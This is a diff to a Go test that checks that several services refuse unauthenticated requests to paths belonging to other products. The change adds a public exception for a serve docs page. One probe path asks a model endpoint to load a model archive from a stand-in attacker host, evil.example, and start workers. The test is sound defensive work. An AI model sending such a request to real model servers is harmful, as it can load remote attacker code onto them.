@@ -149,7 +149,8 @@ func toLogin(answer string) bool {
 // no answer.
 func TestPathsOfOtherProductsAreNotAnswered(t *testing.T) {
 	w := newWorld(t)
-	public := map[string]bool{"api OPTIONS": true, "files OPTIONS": true}
+	// The page of the data plane has no data: it asks for them with the reader's key.
+	public := map[string]bool{"api OPTIONS": true, "files OPTIONS": true, "serve GET /docs": true}
 	for name, base := range map[string]string{"api": w.api, "files": w.files, "serve": w.serve} {
 		for _, path := range []string{
 			"/models?url=http://evil.example/m.mar&initial_workers=1", "/api/jobs/", "/api/version", "/debug/pprof/", "/debug/vars", "/metrics",
@@ -158,7 +159,7 @@ func TestPathsOfOtherProductsAreNotAnswered(t *testing.T) {
 		} {
 			for _, method := range []string{"GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get"} {
 				status, answer := w.askAs(t, method, base+path, nil)
-				if status < 400 && !toLogin(answer) && !public[name+" "+method] {
+				if status < 400 && !toLogin(answer) && !public[name+" "+method] && !public[name+" "+method+" "+path] {
 					t.Errorf("%s %s on %s answers %d without credentials", method, path, name, status)
 				}
 			}
